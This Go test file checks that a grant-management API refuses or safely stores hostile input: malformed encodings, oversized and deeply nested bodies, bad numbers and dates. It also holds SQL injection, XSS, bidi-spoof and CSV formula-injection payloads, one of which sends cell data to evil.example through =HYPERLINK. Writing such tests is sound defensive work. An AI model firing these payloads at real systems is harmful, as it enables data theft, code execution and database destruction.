package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"constellate/api"
	"constellate/api/apitest"
	"constellate/internal/store/storetest"
	"constellate/reliability"
)

// hostileWorld is what TestHostileInput sends its corpus to: the award world's published
// round (awards, payments, a ranking, 360Giving data), and, made after it at the moved clock,
// a round open now with a draft application in it and a draft round.
type hostileWorld struct {
	*awardWorld
	app, draftRound         string // paths
	awardOrg, awardOrgOwner string
}

func newHostileWorld(t *testing.T, env *apitest.Env) *hostileWorld {
	t.Helper()
	w := newAwardWorld(t, env)
	now := env.Clock.Now()
	dates := func(b map[string]any) {
		b["opens_at"] = now.Add(-time.Hour).Format(time.RFC3339)
		b["closes_at"] = now.Add(30 * 24 * time.Hour).Format(time.RFC3339)
	}
	open := w.openRound(t, dates)
	app := "/v1/applications/" + w.draft(t, w.owner, open, w.orgID)["id"].(string)
	body := roundBody(fmt.Sprintf("H%d", appPrefixSeq.Add(1)))
	dates(body)
	draftRound := "/v1/rounds/" + env.Expect(t, http.StatusCreated, apitest.Req{Method: "POST", Path: "/v1/programmes/" + w.programmeID + "/rounds",
		Token: w.manager.Token, Body: body}).Map(t)["id"].(string)
	org := w.awards[w.apps[0]]["organisation_id"].(string)
	// The award's group: whichever of the award world's applicants owns it.
	owner := ""
	for _, u := range append([]apitest.User{w.owner}, w.owners...) {
		var members struct {
			Data []api.MemberResponse `json:"data"`
		}
		if r := env.Do(apitest.Req{Method: "GET", Path: "/v1/organisations/" + org + "/members", Token: u.Token}); r.Status == http.StatusOK {
			r.Decode(t, &members)
		}
		for _, m := range members.Data {
			if m.UserID == u.ID && m.MembershipRole == "owner" {
				owner = u.Token
			}
		}
	}
	if owner == "" {
		t.Fatal("no owner of the award's organisation")
	}
	return &hostileWorld{awardWorld: w, app: app, draftRound: draftRound, awardOrg: org, awardOrgOwner: owner}
}

// hostileReply is what came back for a corpus case.
type hostileReply struct {
	status      int
	contentType string
	body        []byte
}

// sendRaw sends a request outside apitest's contract filter (which cannot carry a chunked or
// 10 MB body); chunked sends the body without Content-Length (Transfer-Encoding: chunked).
func sendRaw(t *testing.T, env *apitest.Env, method, path, token string, body []byte, chunked bool) hostileReply {
	t.Helper()
	var rd io.Reader = bytes.NewReader(body)
	if chunked {
		rd = io.MultiReader(bytes.NewReader(body)) // hides the length: net/http sends it chunked
	}
	req, err := http.NewRequest(method, env.HTTP.URL+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if chunked {
		req.ContentLength = -1
	}
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := env.HTTP.Client().Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return hostileReply{resp.StatusCode, resp.Header.Get("Content-Type"), b}
}

// nested is a JSON value n levels deep: arrays, or objects under the key "a".
func nested(n int, objects bool) string {
	if objects {
		return strings.Repeat(`{"a":`, n) + `1` + strings.Repeat(`}`, n)
	}
	return strings.Repeat(`[`, n) + strings.Repeat(`]`, n)
}

// bigArray is a JSON array of n copies of elem.
func bigArray(n int, elem string) string {
	return "[" + strings.TrimSuffix(strings.Repeat(elem+",", n), ",") + "]"
}

// hostileTexts are stored in every free-text field and must come back byte for byte: SQL and
// script fragments, spreadsheet formulas, emoji (ZWJ sequences, skin tones, variation
// selectors), combining characters (decomposed, never normalised) and right-to-left text
// with a bidi override.
var hostileTexts = map[string]string{
	"SQL: drop table":              `'; DROP TABLE applications; --`,
	"SQL: tautology and sleep":     `" OR 1=1; SELECT pg_sleep(5); --`,
	"SQL: Bobby Tables":            `Robert'); DELETE FROM organisations WHERE ('1'='1`,
	"script tag":                   `<script>alert(document.cookie)</script>`,
	"HTML event handler":           `<img src=x onerror=alert(1)>`,
	"formula: =HYPERLINK":          `=HYPERLINK("http://evil.example/?q="&A1,"Click")`,
	"formula: +cmd":                `+cmd|' /C calc'!A0`,
	"formula: -cmd":                `-2+3+cmd|' /C calc'!A0`,
	"formula: @SUM":                `@SUM(1+1)*cmd|' /C calc'!A0`,
	"emoji":                        "👩🏽‍🦯 Peer café ☕️ 🏳️‍🌈 run by us",
	"combining characters":         "Cafe\u0301 Man\u0303ana Z\u0351\u0352\u0353algo",
	"right-to-left, bidi override": "مجموعة الدعم \u202Eevil.exe\u202C שלום עולם",
}

// textField is one free-text field a test can write and read back.
type textField struct {
	name      string // as reported
	method    string
	path      string
	token     string
	body      func(v string) any
	read      string // GET path returning it
	readToken string
	get       func(m map[string]any) any
}

// TestHostileInput sends a corpus of hostile input through the real HTTP stack on each
// database (issue 13, item 7): every refusal is the exact 4xx expected, a problem document
// naming the field where there is one, and changes nothing; text of every kind is stored and
// returned byte for byte; no SQL is executed; every CSV export neutralises formula prefixes
// (OWASP: a leading = + - @ tab or CR gets a ').
func TestHostileInput(t *testing.T) {
	t.Parallel()
	for _, d := range storetest.Dialects(t) {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel() // each dialect on its own server and database
			env := apitest.New(t, d, trustLoopbackProxy, withPrefix)
			res := evidence(t, "bad-input", d, 60, "Bad input",
				"Hostile input is refused with the exact 4xx expected (problem+json naming the field), never a 5xx, and changes nothing; "+
					"text of every kind is stored and returned byte for byte; SQL and script fragments are stored verbatim, never executed, and neutralised in every CSV export.",
				"TestHostileInput (api/hostile_input_test.go) through the real HTTP stack: each corpus case sent once, its status compared exactly, "+
					"every row of every table fingerprinted before and after each refused case (apitest.State); then each hostile text written to every free-text field "+
					"and read back; then formula payloads put in the organisation name and every CSV export (awards, payments, ranking, 360Giving) parsed.")
			w := newHostileWorld(t, env)
			res.Statuses = map[string]int{}
			refusals(t, env, w, res)
			storedVerbatim(t, env, w, res)
			csvNeutralised(t, env, w, res)
			for _, f := range res.Figures {
				if f.OK != nil && !*f.OK {
					t.Errorf("%s: %s, want %s", f.Name, f.Value, f.Want)
				}
			}
		})
	}
}

// refusals sends the corpus of input that must be refused.
func refusals(t *testing.T, env *apitest.Env, w *hostileWorld, res *reliability.Result) {
	owner, manager := w.owner.Token, w.manager.Token
	app, round := w.app, w.draftRound
	tenMB := []byte(`{"title":"` + strings.Repeat("x", 10<<20) + `"}`)
	// flagged: the draft kept the value and lists field among its problems.
	flagged := func(field string) func(hostileReply) error {
		return func(hostileReply) error {
			var p api.ApplicationProblems
			env.Expect(t, http.StatusOK, apitest.Req{Method: "GET", Path: app + "/problems", Token: owner}).Decode(t, &p)
			for _, x := range p.Problems {
				if x.Field == field {
					return nil
				}
			}
			return fmt.Errorf("the draft's problems do not list %s: %+v", field, p.Problems)
		}
	}
	// roundTrips: the reply and a fresh read carry field exactly as sent.
	roundTrips := func(field, sent string) func(hostileReply) error {
		return func(got hostileReply) error {
			for _, b := range [][]byte{got.body, env.Expect(t, http.StatusOK, apitest.Req{Method: "GET", Path: round, Token: manager}).Body} {
				var m map[string]any
				if err := json.Unmarshal(b, &m); err != nil || m[field] != sent {
					return fmt.Errorf("%s came back as %v, sent %s", field, m[field], sent)
				}
			}
			return nil
		}
	}
	cases := []struct {
		group, name  string
		method, path string
		token        string
		body         string
		raw          []byte // sent outside the contract filter; chunked when chunked
		chunked      bool
		want         int
		field        string
		// kept, for a 2xx: what must hold of the reply and the stored state (autosave keeps
		// what is sent and lists it as a problem, SPEC §6; a far-future date is a date).
		kept func(got hostileReply) error
	}{
		{group: "encoding", name: "invalid UTF-8 (0xFF 0xFE) in a title", method: "PATCH", path: app, token: owner, body: "{\"title\":\"\xff\xfeab\"}", want: 400},
		{group: "encoding", name: "overlong UTF-8 for '/' (0xC0 0xAF)", method: "PATCH", path: app, token: owner, body: "{\"title\":\"\xc0\xaf\"}", want: 400},
		// JSON.stringify writes half a surrogate pair as an escape (a client that cut text in
		// the middle of an emoji): the autosave keeps the text, the half becomes U+FFFD.
		{group: "encoding", name: "half a UTF-16 surrogate pair escaped (\\ud800): kept as U+FFFD", method: "PATCH", path: app, token: owner,
			body: `{"title":"a\ud800b"}`, want: 200, kept: func(got hostileReply) error {
				var m map[string]any
				if err := json.Unmarshal(got.body, &m); err != nil || m["title"] != "a\uFFFDb" {
					return fmt.Errorf("title %q, want %q", m["title"], "a\uFFFDb")
				}
				return nil
			}},
		{group: "encoding", name: "NUL in an answer", method: "PATCH", path: app, token: owner, body: `{"answers":{"about":"a\u0000b"}}`, want: 400, field: "answers.about"},
		{group: "size", name: "10 MB body with Content-Length", method: "PATCH", path: app, token: owner, raw: tenMB, want: 413},
		{group: "size", name: "10 MB body chunked, no Content-Length", method: "PATCH", path: app, token: owner, raw: tenMB, chunked: true, want: 413},
		{group: "size", name: "900 kB title (a draft keeps it as a problem)", method: "PATCH", path: app, token: owner, body: `{"title":"` + strings.Repeat("t", 900<<10) + `"}`, want: 200, field: "title", kept: flagged("title")},
		{group: "depth", name: "arrays nested 10,000 deep", method: "PATCH", path: app, token: owner, body: `{"answers":{"areas":` + nested(10000, false) + `}}`, want: 400},
		{group: "depth", name: "objects nested 10,000 deep", method: "PATCH", path: app, token: owner, body: `{"answers":` + nested(10000, true) + `}`, want: 400},
		{group: "numbers", name: "money 2^63 (beyond int64)", method: "PATCH", path: app, token: owner, body: `{"requested_amount":9223372036854775808}`, want: 400, field: "requested_amount"},
		{group: "numbers", name: "money 1e30", method: "PATCH", path: app, token: owner, body: `{"requested_amount":1e30}`, want: 400, field: "requested_amount"},
		{group: "numbers", name: "money as a float (2500.50)", method: "PATCH", path: app, token: owner, body: `{"requested_amount":2500.50}`, want: 400, field: "requested_amount"},
		{group: "numbers", name: "money as a string", method: "PATCH", path: app, token: owner, body: `{"requested_amount":"2500"}`, want: 400, field: "requested_amount"},
		{group: "numbers", name: "negative money requested", method: "PATCH", path: app, token: owner, body: `{"requested_amount":-100}`, want: 422, field: "requested_amount"},
		{group: "numbers", name: "zero money requested (a draft keeps it as a problem)", method: "PATCH", path: app, token: owner, body: `{"requested_amount":0}`, want: 200, field: "requested_amount", kept: flagged("requested_amount")},
		{group: "numbers", name: "negative round budget", method: "PATCH", path: round, token: manager, body: `{"budget":-1}`, want: 422, field: "budget"},
		{group: "numbers", name: "zero round budget", method: "PATCH", path: round, token: manager, body: `{"budget":0}`, want: 422, field: "budget"},
		{group: "numbers", name: "float max grant", method: "PATCH", path: round, token: manager, body: `{"max_grant":500000.5}`, want: 400, field: "max_grant"},
		{group: "numbers", name: "max grant beyond int64", method: "PATCH", path: round, token: manager, body: `{"max_grant":99999999999999999999}`, want: 400, field: "max_grant"},
		{group: "numbers", name: "negative annual income", method: "PATCH", path: "/v1/organisations/" + w.orgID, token: owner, body: `{"annual_income":-5}`, want: 422, field: "annual_income"},
		{group: "numbers", name: "a number answer of 1e400", method: "PATCH", path: app, token: owner, body: `{"answers":{"people":1e400}}`, want: 400},
		{group: "dates", name: "month 13, day 45", method: "PATCH", path: round, token: manager, body: `{"opens_at":"2025-13-45T09:00:00Z"}`, want: 400, field: "opens_at"},
		{group: "dates", name: "a date without a time", method: "PATCH", path: round, token: manager, body: `{"opens_at":"2025-04-01"}`, want: 400, field: "opens_at"},
		{group: "dates", name: "a word ('tomorrow')", method: "PATCH", path: round, token: manager, body: `{"opens_at":"tomorrow"}`, want: 400, field: "opens_at"},
		{group: "dates", name: "a UK-format date", method: "PATCH", path: round, token: manager, body: `{"closes_at":"31/03/2025 17:00"}`, want: 400, field: "closes_at"},
		{group: "dates", name: "a Unix timestamp", method: "PATCH", path: round, token: manager, body: `{"closes_at":1743440400}`, want: 400, field: "closes_at"},
		{group: "dates", name: "year 10000", method: "PATCH", path: round, token: manager, body: `{"closes_at":"10000-01-01T00:00:00Z"}`, want: 400, field: "closes_at"},
		{group: "dates", name: "far-future close 9999-12-31 (stored exactly)", method: "PATCH", path: round, token: manager, body: `{"closes_at":"9999-12-31T23:59:59Z"}`, want: 200, field: "closes_at", kept: roundTrips("closes_at", "9999-12-31T23:59:59Z")},
		{group: "dates", name: "far future filter (due_before=99999-01-01)", method: "GET", path: "/v1/payments?due_before=99999-01-01", token: manager, want: 400, field: "due_before"},
		{group: "dates", name: "wrong-format filter (updated_since=yesterday)", method: "GET", path: "/v1/awards?updated_since=yesterday", token: manager, want: 400, field: "updated_since"},
		{group: "arrays", name: "100,000 choices in an answer (a draft keeps it as a problem)", method: "PATCH", path: app, token: owner, body: `{"answers":{"areas":` + bigArray(100000, `"leeds"`) + `}}`, want: 200, field: "answers.areas", kept: flagged("answers.areas")},
		{group: "arrays", name: "100,000 panel members", method: "PUT", path: round + "/panel", token: manager, body: `{"user_ids":` + bigArray(100000, `"x"`) + `}`, want: 422, field: "user_ids"},
		{group: "arrays", name: "100,000 led_by entries", method: "PATCH", path: "/v1/organisations/" + w.orgID, token: owner, body: `{"led_by":` + bigArray(100000, `"x"`) + `}`, want: 422, field: "led_by"},
		{group: "arrays", name: "100,000 form questions", method: "PATCH", path: round, token: manager, body: `{"form":{"questions":` + bigArray(100000, `{}`) + `}}`, want: 422},
	}
	var fivexx, exact, named, withField, unchanged, refusedCases, kept, keptCases int
	for _, c := range cases {
		before := env.State(t)
		var got hostileReply
		if c.raw != nil {
			got = sendRaw(t, env, c.method, c.path, c.token, c.raw, c.chunked)
		} else {
			var body any
			if c.body != "" {
				body = c.body
			}
			r := env.Do(apitest.Req{Method: c.method, Path: c.path, Token: c.token, Body: body})
			got = hostileReply{r.Status, r.Header.Get("Content-Type"), r.Body}
		}
		res.Statuses[strconv.Itoa(got.status)]++
		label := c.group + ": " + c.name
		if got.status >= 500 {
			fivexx++
		}
		if c.kept != nil {
			keptCases++
			if err := c.kept(got); got.status != c.want || err != nil {
				t.Errorf("%s: %d, want %d: %v: %.300s", label, got.status, c.want, err, got.body)
			} else {
				kept++
			}
			res.Figures = append(res.Figures, figure(label, got.status, strconv.Itoa(c.want), got.status == c.want))
			continue
		}
		refusedCases++
		if got.status == c.want && got.contentType == "application/problem+json" {
			exact++
		} else {
			t.Errorf("%s: %d %s, want %d problem+json: %.300s", label, got.status, got.contentType, c.want, got.body)
		}
		if c.field != "" {
			withField++
			if problemFieldIs(got.body, c.field) {
				named++
			} else {
				t.Errorf("%s: the problem does not name %q: %.300s", label, c.field, got.body)
			}
		}
		if changed := before.Diff(env.State(t)); len(changed) == 0 {
			unchanged++
		} else {
			t.Errorf("%s: refused, yet the tables %s changed", label, strings.Join(changed, ", "))
		}
		res.Figures = append(res.Figures, figure(label, got.status, strconv.Itoa(c.want), got.status == c.want))
	}
	// What the draft kept is put back, so later reads are small again.
	env.Expect(t, http.StatusOK, apitest.Req{Method: "PATCH", Path: app, Token: owner,
		Body: map[string]any{"title": "Peer support cafés", "requested_amount": 250000, "answers": map[string]any{"areas": []string{"leeds"}}}})
	res.Figures = append(res.Figures,
		info("corpus cases", len(cases)),
		figure("5xx", fivexx, "0", fivexx == 0),
		figure("refused with exactly the expected 4xx, as problem+json", fmt.Sprintf("%d of %d", exact, refusedCases), "all", exact == refusedCases),
		figure("refusals naming the field (where there is one)", fmt.Sprintf("%d of %d", named, withField), "all", named == withField),
		figure("refusals with every table unchanged", fmt.Sprintf("%d of %d", unchanged, refusedCases), "all", unchanged == refusedCases),
		figure("kept, as the spec says (draft autosave lists the problem; a far-future date round-trips; half a surrogate becomes U+FFFD)", fmt.Sprintf("%d of %d", kept, keptCases), "all", kept == keptCases),
	)
}

// problemFieldIs reports whether a problem document names field (or a field under it).
func problemFieldIs(body []byte, field string) bool {
	var p struct {
		Errors []struct {
			Field string `json:"field"`
		} `json:"errors"`
	}
	if json.Unmarshal(body, &p) != nil {
		return false
	}
	for _, e := range p.Errors {
		if e.Field == field || strings.HasPrefix(e.Field, field+".") || strings.HasPrefix(e.Field, field+"[") {
			return true
		}
	}
	return false
}

// storedVerbatim writes every hostile text into every free-text field and reads it back.
func storedVerbatim(t *testing.T, env *apitest.Env, w *hostileWorld, res *reliability.Result) {
	owner, manager := w.owner.Token, w.manager.Token
	org := "/v1/organisations/" + w.orgID
	prog := "/v1/programmes/" + w.programmeID
	str := func(k string) func(m map[string]any) any { return func(m map[string]any) any { return m[k] } }
	fields := []textField{
		{"organisation name", "PATCH", org, owner, func(v string) any { return map[string]any{"name": v} }, org, owner, str("name")},
		{"organisation user_led_description", "PATCH", org, owner, func(v string) any { return map[string]any{"user_led_description": v} }, org, owner, str("user_led_description")},
		{"programme name", "PATCH", prog, manager, func(v string) any { return map[string]any{"name": v} }, prog, manager, str("name")},
		{"programme description", "PATCH", prog, manager, func(v string) any { return map[string]any{"description": v} }, prog, manager, str("description")},
		{"round name", "PATCH", w.draftRound, manager, func(v string) any { return map[string]any{"name": v} }, w.draftRound, manager, str("name")},
		{"round description", "PATCH", w.draftRound, manager, func(v string) any { return map[string]any{"description": v} }, w.draftRound, manager, str("description")},
		{"application title", "PATCH", w.app, owner, func(v string) any { return map[string]any{"title": v} }, w.app, owner, str("title")},
		{"application summary", "PATCH", w.app, owner, func(v string) any { return map[string]any{"summary": v} }, w.app, owner, str("summary")},
		{"application answer (long text)", "PATCH", w.app, owner, func(v string) any { return map[string]any{"answers": map[string]any{"about": v}} }, w.app, owner,
			func(m map[string]any) any { a, _ := m["answers"].(map[string]any); return a["about"] }},
	}
	names := make([]string, 0, len(hostileTexts))
	for n := range hostileTexts {
		names = append(names, n)
	}
	sort.Strings(names)
	tables := len(env.State(t))
	var tried, verbatim int
	for _, f := range fields {
		for _, n := range names {
			v := hostileTexts[n]
			tried++
			r := env.Do(apitest.Req{Method: f.method, Path: f.path, Token: f.token, Body: f.body(v)})
			if r.Status != http.StatusOK {
				t.Errorf("%s ← %s: %d: %.300s", f.name, n, r.Status, r.Body)
				continue
			}
			back := env.Expect(t, http.StatusOK, apitest.Req{Method: "GET", Path: f.read, Token: f.readToken}).Map(t)
			if got, _ := f.get(back).(string); got != v {
				t.Errorf("%s ← %s: stored %q, sent %q", f.name, n, got, v)
				continue
			}
			if !bytes.Contains(r.Body, replyJSON(v)) {
				t.Errorf("%s ← %s: the write's own reply does not carry the text as sent", f.name, n)
				continue
			}
			verbatim++
		}
	}
	// Executed SQL would have dropped or emptied a table: every table is still there, and the
	// application and the organisations still answer.
	after := env.State(t)
	intact := len(after) == tables && after["applications"] != "" && after["organisations"] != ""
	env.Expect(t, http.StatusOK, apitest.Req{Method: "GET", Path: w.app, Token: owner})
	res.Figures = append(res.Figures,
		info("free-text fields × hostile texts", fmt.Sprintf("%d × %d", len(fields), len(names))),
		figure("stored and returned byte for byte", fmt.Sprintf("%d of %d", verbatim, tried), "all", verbatim == tried),
		figure("tables after the SQL fragments", fmt.Sprintf("%d of %d", len(after), tables), "all, none emptied", intact),
	)
}

// replyJSON is v as encoding/json writes it inside a reply (HTML characters escaped).
func replyJSON(v string) []byte {
	b, _ := json.Marshal(v)
	return bytes.Trim(b, `"`)
}

// csvNeutralised puts each formula payload in the organisation name of an award's group and
// reads every CSV export that shows it: the cell must be the payload with a ' in front.
func csvNeutralised(t *testing.T, env *apitest.Env, w *hostileWorld, res *reliability.Result) {
	manager := w.manager.Token
	exports := []struct{ name, path, column string }{
		{"awards CSV", "/v1/awards?round_id=" + w.roundID, "organisation_name"},
		{"payments CSV", "/v1/payments?round_id=" + w.roundID, "payee_name"},
		{"ranking CSV", "/v1/rounds/" + w.roundID + "/ranking", "organisation_name"},
		{"360Giving CSV", "/v1/exports/360giving?round_id=" + w.roundID, "Recipient Org:Name"},
	}
	payloads := []string{
		`=HYPERLINK("http://evil.example/?q="&A1,"Click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		`=1+1<script>alert(1)</script>`, `'; DROP TABLE awards; --`,
	}
	var cells, safe int
	for _, p := range payloads {
		env.Expect(t, http.StatusOK, apitest.Req{Method: "PATCH", Path: "/v1/organisations/" + w.awardOrg, Token: w.awardOrgOwner, Body: map[string]any{"name": p}})
		for _, x := range exports {
			r := env.Expect(t, http.StatusOK, apitest.Req{Method: "GET", Path: x.path, Token: manager, Header: map[string]string{"Accept": "text/csv"}})
			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
			if err != nil || len(rows) < 2 {
				t.Fatalf("%s: not CSV with rows (%v): %.300s", x.name, err, r.Body)
			}
			col := -1
			for i, h := range rows[0] {
				if h == x.column {
					col = i
				}
			}
			if col < 0 {
				t.Fatalf("%s has no column %q: %v", x.name, x.column, rows[0])
			}
			want := p
			if strings.ContainsRune("=+-@\t\r", rune(p[0])) {
				want = "'" + p
			}
			found := false
			for _, row := range rows[1:] {
				cell := row[col]
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: a cell starts with a formula character: %q", x.name, cell)
				}
				if cell == want {
					found = true
				}
			}
			cells++
			if found {
				safe++
			} else {
				t.Errorf("%s: no %q cell for the payload %q", x.name, want, p)
			}
		}
	}
	res.Figures = append(res.Figures,
		info("CSV exports × formula payloads", fmt.Sprintf("%d × %d", len(exports), len(payloads))),
		figure("cells neutralised (a ' before = + - @) or verbatim", fmt.Sprintf("%d of %d", safe, cells), "all", safe == cells),
	)
}
